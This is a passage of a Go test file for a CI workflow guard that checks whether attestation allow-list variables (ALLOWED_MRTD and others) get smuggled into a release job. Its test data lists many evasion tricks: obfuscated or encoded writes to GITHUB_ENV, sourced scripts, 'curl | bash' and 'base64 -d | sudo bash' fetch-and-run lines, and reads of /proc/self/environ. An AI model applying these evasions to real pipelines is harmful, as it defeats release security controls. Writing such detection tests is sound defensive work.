package guard_test

import (
	"os"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/require"

	"github.com/calimero-network/mero-tee/internal/base/check"
	"github.com/calimero-network/mero-tee/internal/base/fault"
	"github.com/calimero-network/mero-tee/internal/verify/guard"
)

// tree is a repository: file names and what they hold.
type tree map[string]string

func (files tree) judged(t *testing.T) check.Result {
	t.Helper()
	repository := fstest.MapFS{}
	for name, text := range files {
		repository[name] = &fstest.MapFile{Data: []byte(text)}
	}
	read, err := guard.Workflows(repository)
	require.NoError(t, err)
	return guard.Allowed(nil, read)[1]
}

// cannotBeJudged wants the guard to refuse the files for something that it does not understand.
func (files tree) cannotBeJudged(t *testing.T, name string) {
	t.Helper()
	r := files.judged(t)
	require.Equal(t, fault.Verification, fault.CodeOf(r.Err()), name)
	require.Contains(t, r.Got, "cannot be judged: ", name)
}

const jobHead = "on: push\njobs:\n  release:\n    runs-on: ubuntu-24.04\n"

// run is a workflow with one step for each script.
func run(scripts ...string) tree {
	text := jobHead + "    steps:\n"
	for _, s := range scripts {
		text += "      - run: |\n          " + strings.ReplaceAll(s, "\n", "\n          ") + "\n"
	}
	return tree{path: text}
}

// steps is a workflow with steps as they are written.
func steps(text string) tree { return tree{path: jobHead + "    steps:\n" + text} }

// jobKeys is a workflow whose job has further keys.
func jobKeys(text string) tree {
	return tree{path: jobHead + text + "\n    steps:\n      - run: go tool mage release:kms\n"}
}

// and adds a file.
func (files tree) and(name, text string) tree {
	files[name] = text
	return files
}

const composite = "name: a\ndescription: d\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: "

// smuggling are ways to put an ALLOWED_ variable into a later step, or into the command that releases.
func smuggling() map[string]tree {
	return map[string]tree{
		// files that are sourced, run or read by a program
		"sourced names": run(". .github/release.env\ngo tool mage release:kms").and(".github/release.env",
			"export ALLOWED_MRTD=00\n"),
		"sourced names, lower case": run("set -a\n. .github/release.env").and(".github/release.env", "allowed_mrtd=00\n"),
		"sourced from elsewhere":    run("source tools/env.sh").and("tools/env.sh", "export AL\"LOWED\"_MRTD=00\n"),
		"sourced from a folder": run(". \"$GITHUB_WORKSPACE/tools/env.sh\"").and("tools/env.sh",
			"export ALLOWED_MRTD=00\n"),
		"sourced twice": run(". scripts/a.sh").and("scripts/a.sh", ". tools/b").and("tools/b",
			"export ALLOWED_MRTD=00\n"),
		"sourced and not there":      run(". ./made-earlier.env"),
		"sourced by a computed path": run(". \"$RELEASE_FILE\""),
		"sourced from outside":       run("source /tmp/env"),
		"sourced from a process":     run("source <(base64 -d <<< RVhQT1JU)"),
		"a script without a suffix": run("scripts/helper").and("scripts/helper",
			"export ALLOWED_MRTD=00; exec go tool mage release:kms\n"),
		"a bash library": run("scripts/helper.bash").and("scripts/helper.bash",
			"ALLOWED_MRTD=00 go tool mage release:kms\n"),
		"a script that is run": run("bash tools/release.sh").and("tools/release.sh",
			"export $'\\x41LLOWED_MRTD=00'\n"),
		"Makefile": run("make release").and("Makefile",
			"export ALLOWED_MRTD := 00\nrelease:\n\tgo tool mage release:kms\n"),
		"Makefile, lower case":       run("make release").and("Makefile", "export allowed_mrtd=00\n"),
		"dotenv":                     run("docker compose up").and(".env", "ALLOWED_MRTD=00\n"),
		"BASH_ENV":                   jobKeys("    env: {BASH_ENV: tools/env}"),
		"env file that is not there": run("docker run --env-file made.env kms"),
		"env file": run("docker run --env-file=tools/kms.env kms").and("tools/kms.env",
			"ALLOWED_MRTD=00\n"),
		"evaluated file":             run("eval \"$(cat tools/env)\""),
		"evaluated text":             run("eval 'export AL''LOWED_MRTD=00'"),
		"words of a file":            run("env $(cat f) go tool mage release:kms"),
		"exported words of a file":   run("export $(grep -v '^#' .env | xargs)"),
		"xargs":                      run("xargs -a f env go tool mage release:kms < /dev/null"),
		"Dockerfile ENV":             {"docker/mero-kms/Dockerfile": "FROM scratch\nENV ALLOWED_MRTD=00\n"},
		"Dockerfile ENV, lower case": {"docker/mero-kms/Dockerfile": "FROM scratch\nENV A=b allowed_mrtd=00\n"},
		"Dockerfile ENV, old form":   {"docker/mero-kms/Dockerfile": "FROM scratch\nENV allowed_mrtd 00\n"},
		"Dockerfile ENV, continued":  {"docker/mero-kms/Dockerfile": "FROM scratch\nENV ALLO\\\nWED_MRTD=00\n"},
		"Dockerfile ARG":             {"docker/mero-kms/Dockerfile": "FROM scratch\nARG Allowed_Mrtd\n"},
		"compose mapping": {
			"docker/mero-kms/docker-compose.yaml": "services:\n  kms:\n    environment:\n      allowed_mrtd: x\n"},
		"compose list": {
			"docker/mero-kms/docker-compose.yaml": "services:\n  kms:\n    environment: [\"Allowed_Mrtd=x\"]\n"},
		"compose by a merge key": {
			"docker/c.yaml": "x-e: &e {allowed_mrtd: x}\nservices:\n  kms:\n    environment:\n      <<: *e\n"},
		"compose, second document": {
			"docker/c.yaml": "a: b\n---\nservices: {kms: {environment: {ALLOWED_MRTD: x}}}\n"},
		"compose's file of names": {"docker/c.yaml": "services: {kms: {env_file: made.env}}\n"},
		"JSON escapes":            {"docker/c.json": `{"environment": {"\u0041LLOWED_MRTD": "x"}}`},
		"Ansible environment": {
			"ansible/node.yml": "- hosts: all\n  environment:\n    allowed_tcb_status: x\n"},
		"Ansible shell": {
			"ansible/node.yml": "- hosts: all\n  tasks:\n    - ansible.builtin.shell: AL\"LOWED\"_MRTD=00 run\n"},
		"Ansible computed key": {
			"ansible/node.yml": "- hosts: all\n  environment:\n    \"{{ 'ALLO' ~ x }}\": y\n"},
		"unit of an image": {
			"ansible/roles/a/templates/kms.service.j2": "[Service]\nEnvironment=ALLOWED_MRTD=00\n"},
		"Packer":          {"packer/node.pkr.hcl": "environment_vars = [\"ALLOWED_MRTD=00\"]\n"},
		"Packer, escaped": {"packer/node.pkr.hcl": "environment_vars = [\"\\u0041LLOWED_MRTD=00\"]\n"},
		"Mage": {
			"magefiles/kms.go": "package main\nfunc f() { os.Setenv(\"ALLO\"+\"WED_MRTD\", \"00\") }\n"},
		"BASH_ENV of a later step": run("echo BASH_ENV=tools/env >> \"$GITHUB_ENV\""),
		"local action, $/": steps("      - uses: $/tools/prepare\n").and("tools/prepare/action.yml",
			composite+"echo \"ALLOWED_MRTD=00\" >> \"$GITHUB_ENV\"\n"),
		"local action, ./": steps("      - uses: ./tools/prepare\n").and("tools/prepare/action.yaml",
			composite+"export allowed_mrtd=x\n"),
		"local action at the top": steps("      - uses: ./\n").and("action.yml", composite+"export allowed_mrtd=x\n"),
		"local action that is no text": steps("      - uses: $/tools/p\n").and("tools/p/action.yml",
			"name: a\nruns: {using: node24, main: i.js}\n"),
		"local action, docker": steps("      - uses: ./tools/p\n").and("tools/p/action.yml",
			"name: a\nruns: {using: docker, image: Dockerfile, env: {X: y}}\n"),
		"local action not there":      steps("      - uses: $/tools/p\n"),
		"reusable workflow not there": {path: "on: push\njobs:\n  a:\n    uses: $/.github/workflows/x.yaml\n"},
		"action beside other keys":    jobKeys("    env: {<<: {allowed_x: y}}"),
		"YAML escapes":                jobKeys("    env: {\"\\x41LLOWED\\u005fMRTD\": x}"),
		"YAML anchor as a key": {
			path: "on: push\nx: &n Allowed_Mrtd\njobs:\n  a:\n    runs-on: x\n    env: {*n : y}\n    steps: []\n"},
		"YAML binary":     jobKeys("    env: {!!binary QUxMT1dFRF9NUlRE: x}"),
		"YAML folded key": jobKeys("    env:\n      ? >-\n        ALLOWED_MRTD\n      : x"),
		"anchor of another job": {path: "on: push\njobs:\n  a:\n    runs-on: x\n    env: &e\n" +
			"      allowed_rtmr1: y\n    steps: []\n  b:\n    runs-on: x\n    env: *e\n    steps: []\n"},
		"computed key":               jobKeys("    env: {\"${{ vars.NAME }}\": x}"),
		"computed mapping":           jobKeys("    env: ${{ fromJSON(vars.ALL) }}"),
		"computed mapping of a step": steps("      - run: mage x\n        env: ${{ fromJSON(needs.a.outputs.env) }}\n"),
		"computed container":         jobKeys("    container: ${{ fromJSON(vars.CONTAINER) }}"),
		"parallel steps": steps(
			"      - parallel:\n          - run: export ALLOWED_MRTD=00\n          - run: mage x\n"),
		"parallel steps, env": steps(
			"      - parallel:\n          - run: mage x\n            env: {allowed_mrtd: x}\n"),
		"options in quotes": jobKeys("    container:\n      image: a\n      options: -e AL\"LOWED\"_MRTD=00"),
		"options of a service": jobKeys(
			"    services:\n      s:\n        image: a\n        options: --env allowed_mrtd"),
		"options by a computed name": jobKeys("    container:\n      image: a\n      options: -e ${{ vars.NAME }}=00"),
		"shell template":             steps("      - shell: env \"AL\"LOWED_MRTD=00 bash {0}\n        run: mage x\n"),
		"shell template of the job":  jobKeys("    defaults: {run: {shell: \"bash -c 'export ALLOWED_MRTD=1; . {0}'\"}}"),
		"index of a context":         run("echo \"${{ vars[format('ALLOW{0}', 'ED_MRTD')] }}\""),
		"whole context":              steps("      - run: mage x\n        env: {ALL: \"${{ toJSON(vars) }}\"}\n"),
		"context, lower case":        run("echo ${{ vars.allowed_x }}"),
		"matrix joined with a suffix": jobKeys(
			"    strategy: {matrix: {p: [ALLOWED]}}\n    env: {ARGS: \"-e ${{ matrix.p }}_MRTD=x\"}"),
		"the old workflow command":      run("echo \"::set-env name=ALLOWED_MRTD::00\""),
		"the old workflow command, low": run("echo \"::set-env name=allowed_mrtd::00\""),

		// GITHUB_ENV
		"newline in a value":    run(`echo "number=$(cat number.txt)" >> "$GITHUB_ENV"`),
		"newline in a variable": run("body=$(cat x)\necho \"B=$body\" >> \"$GITHUB_ENV\""),
		"newline that is read":  run("read -r -d '' body < x\necho \"B=$body\" >> \"$GITHUB_ENV\""),
		"newline in a step's variable": steps(
			"      - env: {BODY: \"${{ github.event.issue.body }}\"}\n        run: echo \"B=$BODY\" >> \"$GITHUB_ENV\"\n"),
		"newline in an output":         run(`echo "B=${{ steps.x.outputs.y }}" >> "$GITHUB_ENV"`),
		"newline in a context":         run(`echo "B=${{ github.event.pull_request.body }}" >> "$GITHUB_ENV"`),
		"newline by a default":         run(`echo "B=${GITHUB_SHA:+$(cat x)}" >> "$GITHUB_ENV"`),
		"newline by an escape":         run(`echo "A=1\nB=2" >> "$GITHUB_ENV"`),
		"newline in a format":          run(`printf 'A=%b\n' '1\nB=2' >> "$GITHUB_ENV"`),
		"a pattern holds NAME=":        run(`grep -v '^TOKEN=' policy.env >> "$GITHUB_ENV"`),
		"an address holds name=":       run(`curl -fsS 'https://example.org/env?profile=debug' >> "$GITHUB_ENV"`),
		"a variable for the command":   run(`LC_ALL=C sort policy.env >> "$GITHUB_ENV"`),
		"copied":                       run(`cp policy.env "$GITHUB_ENV"`),
		"installed":                    run(`install -m 600 policy.env "${GITHUB_ENV}"`),
		"linked":                       run(`ln -sf policy.env "$GITHUB_ENV"`),
		"dd":                           run(`dd if=policy.env of="$GITHUB_ENV" oflag=append conv=notrunc`),
		"edited in place":              run(`sed -i '$r policy.env' "$GITHUB_ENV"`),
		"clobbered":                    run(`cat policy.env >| "$GITHUB_ENV"`),
		"both streams":                 run(`./tool &>> "$GITHUB_ENV"`),
		"another descriptor":           run("exec 3>> \"$GITHUB_ENV\"\ncat f >&3"),
		"all output":                   run("exec >> \"$GITHUB_ENV\"\ncat f"),
		"by the context":               run(`cat policy.env >> "${{ github.env }}"`),
		"by the context's index":       run(`cat policy.env >> ${{ github['env'] }}`),
		"by a variable of the context": steps("      - env: {F: \"${{ github.env }}\"}\n        run: cat x >> \"$F\"\n"),
		"by another variable":          run("f=$GITHUB_ENV\ncat x >> \"$f\""),
		"by its name":                  run("f=GITHUB_ENV\ncat x >> \"${!f}\""),
		"by a computed name":           run("a=GITHUB\nf=${a}_ENV\ncat x >> \"${!f}\""),
		"by printenv":                  run("cat x >> \"$(printenv GITHUB_ENV)\""),
		"by echo":                      run("f=$(echo \"$GITHUB_ENV\")\ncat x >> \"$f\""),
		"by the runner's folder":       run("cat x >> \"$RUNNER_TEMP\"/_runner_file_commands/set_env_*"),
		"another program": run(
			`python3 -c 'import os; open(os.environ["GITHUB_ENV"], "a").write(open("policy.env").read())'`),
		"a program in a here-document": run(
			"python3 - <<'EOF'\nimport os\nopen(os.environ['GITHUB_ENV'], 'a').write(x)\nEOF"),
		"decoded":                  run(`echo QUxMT1dFRF9NUlREPTAwCg== | base64 -d >> "$GITHUB_ENV"`),
		"translated":               run(`echo "NYYBJRQ_ZEGQ=00" | tr A-Z N-ZA-M >> "$GITHUB_ENV"`),
		"tee of a file":            run(`tee -a "$GITHUB_ENV" < policy.env`),
		"tee of a translation":     run(`echo A=1 | tr A B | tee -a "$GITHUB_ENV"`),
		"octal":                    run(`printf '\101LLOWED_MRTD=00\n' >> "$GITHUB_ENV"`),
		"hexadecimal":              run(`echo -e '\x41LLOWED_MRTD=00' >> "$GITHUB_ENV"`),
		"a format with the name":   run(`printf '%sED_MRTD=00\n' ALLOW >> "$GITHUB_ENV"`),
		"a computed name":          run(`echo "${NAME}_MRTD=00" >> "$GITHUB_ENV"`),
		"a computed end of a name": run(`echo "ALLOW${GITHUB_JOB}=00" >> "$GITHUB_ENV"`),
		"a here-document's name":   run("cat <<EOF >> \"$GITHUB_ENV\"\nA=1\n${N}_MRTD=00\nEOF"),
		"a group's name":           run("{\n  echo \"A=1\"\n  echo \"${N}=00\"\n} >> \"$GITHUB_ENV\""),
		"a group's file":           run("{ echo A=1; cat f; } >> \"$GITHUB_ENV\""),
		"a value of many lines":    run("{ echo 'N<<EOF'; cat notes.md; echo EOF; } >> \"$GITHUB_ENV\""),
		"a loop over a file":       run("while read -r l; do echo \"$l\"; done < f >> \"$GITHUB_ENV\""),
		"a function":               run("emit() { cat f; }\nemit >> \"$GITHUB_ENV\""),
		"lower case":               run(`echo "allowed_mrtd=x" >> "$GITHUB_ENV"`),
		"within a condition":       run(`if true; then cat f >> "$GITHUB_ENV"; fi`),
		"within a substitution":    run(`x=$(cat f >> "$GITHUB_ENV")`),
		"by a child":               run(`bash -c 'cat f >> "$GITHUB_ENV"'`),
		"pwsh": steps(
			"      - shell: pwsh\n        run: Get-Content policy.env | Add-Content -Path $env:GITHUB_ENV\n"),
		"pwsh, name in pieces": steps(
			"      - shell: pwsh\n        run: (\"ALLO\" + \"WED_MRTD=00\") | Out-File $env:GITHUB_ENV -Append\n"),
		"Python": steps("      - shell: python\n        run: |\n          import os\n" +
			"          open(os.environ[\"GITHUB_ENV\"], \"a\").write(\"ALLO\" + \"WED_RTMR0=00\")\n"),
		"Python, environment": steps("      - shell: python\n        run: |\n          import os, subprocess\n" +
			"          os.environ[\"\".join([\"ALLO\", \"WED_MRTD\"])] = \"00\"\n"),
		"perl": steps(
			"      - shell: perl {0}\n        run: $ENV{\"ALLO\" . \"WED_MRTD\"} = 1; system(\"mage\");\n"),
		"github-script": steps("      - uses: actions/github-script@v8\n" +
			"        with: {script: \"core.exportVariable('ALLO' + 'WED_MRTD', 'x')\"}\n"),
		"github-script, split": steps(
			"      - uses: actions/github-script@v8\n        with: {script: \"core['export' + 'Variable'](x, 'y')\"}\n"),
		"windows": {path: "on: push\njobs:\n  a:\n    runs-on: ${{ matrix.os }}\n" +
			"    strategy: {matrix: {os: [windows-2025]}}\n    steps:\n      - run: $env:X = 1\n"},

		"by a function's output":     run("f() { echo \"$GITHUB_ENV\"; }\ncat x >> \"$(f)\""),
		"by xargs":                   run("echo \"$GITHUB_ENV\" | xargs cp policy.env"),
		"by a here-document of bash": run("bash <<'EOF'\ncat x >> \"$GITHUB_ENV\"\nEOF"),
		"Python, inline": run(
			"python3 -c 'import os; os.environ[\"\".join([\"ALLO\", \"WED_MRTD\"])] = \"0\"; os.execvp(\"mage\", [])'"),

		"by its name, as an argument": run("a=GITHUB\nf=${a}_ENV\ncp policy.env \"${!f}\""),
		"by its name, kept":           run("a=GITHUB\nf=${a}_ENV\ng=\"${!f}\"\ncat x >> \"$g\""),
		"by a reference":              run("a=GITHUB\ndeclare -n r=${a}_ENV\ncat x >> \"$r\""),
		"by a function's reference":   run("f() { local -n r=${1}_ENV; cat x >> \"$r\"; }\nf GITHUB"),
		"by a computed printenv":      run("a=GITHUB\ncat x >> \"$(printenv \"${a}_ENV\")\""),
		"by all variables":            run("cat x >> \"$(env | sed -n 's/^GITHUB_.NV=//p')\""),
		"by all variables, kept":      run("f=$(export -p | grep _ENV= | cut -d'\"' -f2)\ncat x >> \"$f\""),
		"by the kernel's copy": run("f=$(tr '\\0' '\\n' < /proc/self/environ | grep ^GITHUB_E | cut -d= -f2)\n" +
			"cat x >> \"$f\""),
		"by awk": run(
			"awk 'BEGIN { for (k in ENVIRON) if (k ~ /^GITHUB_E/) print \"x=1\" >> ENVIRON[k] }'"),
		"by a pattern of the runner's folder": run("cat x >> \"$RUNNER_TEMP\"/_runner*/set_env_*"),
		"by a pattern alone":                  run("cat x >> \"$RUNNER_TEMP\"/*/s*"),
		"by a loop over a pattern":            run("for f in \"$RUNNER_TEMP\"/*/set_env*; do cat x >> \"$f\"; done"),
		"by find":                             run("find \"$RUNNER_TEMP\" -name 'set_env_*' -exec cp x {} \\;"),
		"beside the outputs":                  run("d=$(dirname \"$GITHUB_OUTPUT\")\ncat x >> \"$d/s\""),
		"in the outputs' place":               run("cat x >> \"${GITHUB_OUTPUT/output/env}\""),
		"in the path's place":                 run("f=${GITHUB_PATH/add_path/env}\ncat x >> \"$f\""),
		"by a container's arguments": steps(
			"      - uses: docker://alpine\n        with: {args: cp policy.env $GITHUB_ENV}\n"),
		"by a variable with its name": steps("      - env: {N: GITHUB_ENV}\n        run: cat x >> \"${!N}\"\n"),

		// shells that read something else than the file shows
		"from a pipe":              run("curl -fsS https://example.org/x | bash"),
		"from a decoded pipe":      run("base64 -d tools/x | sudo bash -eu"),
		"from a process":           run("bash <(base64 -d tools/x)"),
		"from a computed word":     run("bash <<< \"$(base64 -d tools/x)\""),
		"from a word":              run("bash -s <<< 'export AL\"LOWED\"_MRTD=00'"),
		"from a document":          run("sh <<'EOF'\nexport AL\"LOWED\"_MRTD=00\nEOF"),
		"from a file":              run("bash < tools/release").and("tools/release", "export allowed_mrtd=00; mage x\n"),
		"from a file elsewhere":    run("bash < /tmp/x"),
		"from a file by its name":  run("cd tools; bash release.sh").and("tools/release.sh", "export ALLOWED_MRTD=00\n"),
		"from a folder gone to":    run("cd tools && ./release").and("tools/release", "#!/bin/sh\nexport ALLOWED_MRTD=00\n"),
		"from two folders gone to": run("pushd tools/a; sh b.sh").and("tools/a/b.sh", "export ALLOWED_MRTD=00\n"),
		"from a step's folder": steps("      - working-directory: tools\n        run: bash release.sh\n").and(
			"tools/release.sh", "export ALLOWED_MRTD=00; exec go tool mage release:kms\n"),
		"from the job's folder": jobKeys("    defaults: {run: {working-directory: tools}}\n    env: {A: b}").
			and(".github/workflows/b.yaml", "on: push\ndefaults:\n  run:\n    working-directory: tools/c\njobs:\n  a:\n"+
				"    runs-on: x\n    steps:\n      - run: ./d.sh\n").and("tools/c/d.sh", "export ALLOWED_MRTD=00\n"),
		"another shell":    run("zsh -c 'export AL''LOWED_MRTD=00; mage x'"),
		"another language": run("lua -e 'os.execute(\"x\")'", "deno eval 'Deno.env.set(\"a\",\"b\")'"),
		"a machine that is computed": {path: "on: push\njobs:\n  a:\n    runs-on: ${{ vars.RUNNER }}\n    steps:\n" +
			"      - run: $env:X = 1\n"},
		"a list of merged mappings": jobKeys("    env: {<<: [{A: b}, {allowed_x: y}]}"),

		// names in a shell
		"by env, behind an option":  run("env -i A=b $(cat f) go tool mage release:kms"),
		"a name in quotes":          run(`export AL"LOWED"_MRTD=00`),
		"a name in braces":          run(`env {ALLOWED,X}_MRTD=00 go tool mage release:kms`),
		"a name in ANSI quotes":     run(`export $'\x41LLOWED_MRTD=00'`),
		"a local export":            run("f() { local -x \"$1=00\"; go tool mage release:kms; }\nf ALLOWED_MRTD"),
		"an export of words":        run(`export "$@"`),
		"an export by builtin":      run(`builtin export allowed_mrtd=x`),
		"a default that is set":     run(": \"${ALLOWED_MRTD:=00}\"\nexport -p"),
		"an array that is exported": run("declare -x ALLOWED_MRTD"),
		"by env":                    run("env -i PATH=\"$PATH\" allowed_mrtd=x go tool mage release:kms"),
		"by env -S":                 run("env -S 'AL\"LOWED\"_MRTD=x' mage"),
		"by sudo":                   run("sudo -E ALLOWED_MRTD=00 mage"),
		"by docker":                 run("docker run -e allowed_mrtd kms"),
		"by docker, joined":         run("docker run --env=allowed_mrtd=1 kms"),
		"by docker, computed":       run("docker run -e \"$NAME\" kms"),
		"by a child's text":         run("bash -euc 'allowed_mrtd=00 mage x'"),
		"by an expression":          run("${{ inputs.name }}_MRTD=00 mage x"),
		"by a message in a file":    run("echo ALLOWED_MRTD > name"),
		"by a loop":                 run("for n in ALLOWED_MRTD ALLOWED_RTMR0; do export \"$n=00\"; done"),
		"by a variable":             run("n=ALLOWED_MRTD; export \"$n=00\""),
		"by printf -v":              run("printf -v \"$n\" 00"),
		"by make":                   run("make ALLOWED_MRTD=00 release"),
		"a refusal that sets":       run("[ -n \"$ALLOWED_MRTD\" ] || export ALLOWED_MRTD=00"),
		"not a shell script":        run("if then fi ("),

		"a job that is called with":      {path: "jobs: {with: {runs-on: x, env: {\"${{ vars.N }}\": x}, steps: []}}\n"},
		"a job that is called matrix":    {path: "jobs: {matrix: {runs-on: x, env: {allowed_x: x}, steps: []}}\n"},
		"an environment as a list":       {"docker/k.yaml": "env: [{name: ALLOWED_MRTD, value: x}]\n"},
		"a computed service":             jobKeys("    services: {s: \"${{ fromJSON(vars.SERVICE) }}\"}"),
		"a value in binary":              jobKeys("    env: {A: !!binary QUxMT1dFRF9NUlRE}"),
		"a command in a condition":       run(`if [ -f f ] && cat f; then echo A=1; fi >> "$GITHUB_ENV"`),
		"a command like a key word":      run("thenfi() { cat f; }\nthenfi >> \"$GITHUB_ENV\""),
		"names of files":                 run(`echo * >> "$GITHUB_ENV"`),
		"a default beside a newline":     run(`echo "B=${BODY:-x}" >> "$GITHUB_ENV"`),
		"the path in a group's output":   run("{ echo \"$GITHUB_ENV\"; } > f\ncat x >> \"$(cat f)\""),
		"a condition's computed look-up": jobKeys("    if: vars[inputs.name] == 'x'"),
	}
}

// innocent are files in which the word appears, or that set variables of other names.
func innocent() map[string]tree {
	return map[string]tree{
		"a script that refuses": run("if env | grep -q '^ALLOWED_'; then\n" +
			"  echo \"::error::ALLOWED_ variables are forbidden\" >&2\n  exit 1\nfi\ngo tool mage release:kms"),
		"a script that refuses each": run(
			"for v in ALLOWED_MRTD ALLOWED_RTMR0; do\n  if [ -n \"${!v:-}\" ]; then echo \"$v is set\" >&2; exit 1; fi\ndone"),
		"a script that refuses one": run("[ -z \"${ALLOWED_MRTD:-}\" ] || { echo 'ALLOWED_MRTD is set'; exit 1; }"),
		"a script that dies": run(
			"die() { echo \"$1\" >&2; exit 1; }\n[[ -z ${ALLOWED_MRTD+x} ]] || die \"ALLOWED_MRTD is set\""),
		"a script that looks":        run("if printenv ALLOWED_MRTD > /dev/null; then exit 1; fi"),
		"unset":                      run("unset ALLOWED_MRTD ALLOWED_RTMR0\ngo tool mage release:kms"),
		"a local of lower case":      run("allowed_hosts=a,b\nfor h in ${allowed_hosts//,/ }; do ping \"$h\"; done"),
		"a local of a function":      run("f() { local allowed_hosts=$1; echo \"$allowed_hosts\"; }\nf a"),
		"a field of the policy":      run("jq -r '.allowed_mrtd[], .allowed_tcb_status[]' policy.json"),
		"an address in a message":    run("echo \"see https://example.org/docs?allowed_mrtd=1#ALLOWED_MRTD\""),
		"an address that is fetched": run("curl -fsS \"https://example.org/?allowed_mrtd=1\" -o x"),
		"a comment in Python": steps("      - shell: python\n        run: |\n" +
			"          # ALLOWED_MRTD is forbidden\n          print(1)  # not ALLOWED_RTMR0 either\n"),
		"a comment in a script": run("# ALLOWED_MRTD=... is forbidden\nmage x # no ALLOWED_*"),
		"a name that holds the word": jobKeys(
			"    env: {MY_ALLOWED_LIST: a, CORS_ALLOWED_ORIGINS: b, ALLOWED: c, DISALLOWED_MRTD: d, disallowed_mrtd: e}"),
		"the word alone": run("echo \"not ALLOWED here\"", "export CORS_ALLOWED_ORIGINS=x NOT_ALLOWED_MRTD=y"),
		"prose": {path: "name: no ALLOWED_MRTD\n" + jobHead +
			"    name: no ALLOWED_RTMR0\n    steps:\n      - name: ALLOWED_MRTD is forbidden\n        run: mage x\n"},
		"an input of an action":    steps("      - uses: a/b@v1\n        with: {allowed_hosts: x, allowed_signers: y}\n"),
		"an input named env":       steps("      - uses: a/b@v1\n        with: {env: \"${{ matrix.env }}\"}\n"),
		"an environment of GitHub": jobKeys("    environment: ${{ inputs.environment }}"),
		"a job called env": {
			path: "on: push\njobs:\n  env:\n    runs-on: x\n    steps:\n      - run: mage x\n"},
		"an image by the matrix": jobKeys("    container: ${{ matrix.image }}"),
		"queue": {path: "on: push\nconcurrency:\n  group: release\n  queue: max\njobs:\n  a:\n" +
			"    runs-on: x\n    steps:\n      - run: go test ./...\n"},
		"an anchor without use": steps(
			"      - &setup\n        uses: actions/checkout@v6\n      - run: go test ./...\n"),
		"parallel steps": steps("      - id: redis\n        run: redis-server\n        background: true\n" +
			"      - parallel:\n          - run: go test ./...\n          - run: go vet ./...\n      - cancel: redis\n"),
		"keys that nobody knows": jobKeys("    enviroment_variables: x\n    something: {new: [1]}"),
		"a remote action":        steps("      - uses: a/b/.github/actions/x@v1\n"),
		"a local action": steps("      - uses: $/tools/p\n").and("tools/p/action.yml",
			composite+"mage x # no ALLOWED_MRTD\n"),
		"a value of the ref": run(`echo "VERSION=${{ github.ref_name }}" >> "$GITHUB_ENV"`,
			`echo "V=${VERSION#v}" >> "$GITHUB_ENV"`),
		"a value of GitHub's": run(`echo "TAG=${GITHUB_REF_NAME#mero-kms-v}" >> "$GITHUB_ENV"`,
			`printf 'SHA=%s\n' "$GITHUB_SHA" >> "$GITHUB_ENV"`),
		"a value of the matrix": jobKeys("    strategy: {matrix: {p: [a, b]}}").and(".github/workflows/b.yaml",
			run(`echo "PROFILE=${{ matrix.p }}" | tee -a "$GITHUB_ENV"`)[path]),
		"literal values": run(`echo "GOFLAGS=-trimpath" >> "$GITHUB_ENV"`,
			"{\n  echo \"A=1\"\n  echo \"B=2\"\n} >> \"$GITHUB_ENV\"", "cat >> \"$GITHUB_ENV\" <<EOF\nA=1\nB=$GITHUB_SHA\nEOF"),
		"literal lines": run("{ echo 'N<<EOF'; echo some words; echo EOF; } >> \"$GITHUB_ENV\""),
		"a choice of values": run(
			"if [ \"$GITHUB_REF_TYPE\" = tag ]; then echo A=1; else echo A=2; fi >> \"$GITHUB_ENV\""),
		"GITHUB_ENV is shown": run(`echo "$GITHUB_ENV"`, `cat "$GITHUB_ENV"`,
			`[ -f "$GITHUB_ENV" ] && wc -l "$GITHUB_ENV"`),
		"another name":          run("echo \"$GITHUB_ENVIRONMENT\" > x"),
		"a comment about it":    run("if true; then\n  # never $GITHUB_ENV\n  mage x\nfi"),
		"a program that counts": run("python3 -c 'import json,sys; print(len(json.load(sys.stdin)))' < x.json"),
		"an editor":             run("sed -i -e \"s/$A/$B/\" f", "awk -F= '{print $1}' f", "grep -e \"$X\" f"),
		"a label": run("docker build --label \"$K=$V\" . && docker run --rm -v \"$PWD:/x\" kms",
			"gh release upload \"$TAG\" \"$FILE\""),
		"a background service": run("redis-server & PID=$!\ntrap 'kill $PID' EXIT\nfor i in 1 2 3; do sleep 1; done"),
		"functions and arrays": run(
			"args=(--a \"$1\")\nf() { local x=$1 y; y=${x%%.*}; echo \"${y^^}\"; }\nmage \"${args[@]}\""),
		"an export of a value": run("export GOFLAGS=-trimpath PATH=\"$HOME/go/bin:$PATH\" TAG=\"${GITHUB_REF_NAME}\""),
		"a command in a variable": run("\"$RUNNER_TEMP/mage\" kms:version",
			"MERO_X=\"${1:-}\" exec go tool mage kms:build"),
		"outputs": run("echo \"allowed_mrtd=$(jq -r .allowed_mrtd[0] p.json)\" >> \"$GITHUB_OUTPUT\"",
			"cat x >> \"$GITHUB_STEP_SUMMARY\""),
		"a name with its beginning": run("export PROFILE_${{ matrix.p }}=1",
			"for p in a b; do export \"IMAGE_$p=x\"; done"),
		"words with an equals sign": run(`if [ "$a" = b ] && [[ $a == b ]]; then mage x --flag=$a --other="$b=$c"; fi`),
		"a script beside it":        run(". scripts/lib.sh").and("scripts/lib.sh", "greet() { echo hello; }\n"),
		"a script in its own folder": run("scripts/a.sh").and("scripts/a.sh", "#!/bin/sh\n. \"$(dirname \"$0\")/lib.sh\"\n").
			and("scripts/lib.sh", "greet() { echo hello; }\n"),
		"a literal evaluated": run("eval 'echo hello'", "bash -c 'echo \"$1\"' x y"),
		"docker with values": run("docker run -e PROFILE=\"$PROFILE\" -e HOME -v \"$PWD:/src\" kms",
			"docker build --build-arg VERSION=\"$V\" ."),
		"a shell of a template": steps("      - shell: bash -euo pipefail {0}\n        run: mage x\n"),
		"a program that only prints": steps(
			"      - uses: actions/github-script@v8\n        with: {script: \"core.info('hello')\"}\n"),
		"prose of Ansible": {"ansible/node.yml": "- name: Remove ALLOWED_MRTD\n  hosts: all\n  environment:\n" +
			"    MERO_ROOT: /run\n  vars: {allowed_hosts: [a]}\n"},
		"a comment of a Dockerfile": {"docker/Dockerfile": "# no ALLOWED_MRTD\nFROM scratch\nENV MY_ALLOWED_LIST=a\n"},
		"a comment of Packer": {
			"packer/node.pkr.hcl": "// no ALLOWED_MRTD\nvariable \"a\" {} # nor ALLOWED_RTMR0\nallowed_ports = [\"22\"]\n"},
		"a comment of Go": {
			"magefiles/a.go": "package main\n\n// no ALLOWED_MRTD\nvar allowed_hosts = \"x\" // ALLOWED_MRTD\n"},
		"a page": {".github/CONTRIBUTING.md": "`ALLOWED_MRTD=00` is forbidden\n"},
		"a policy": {
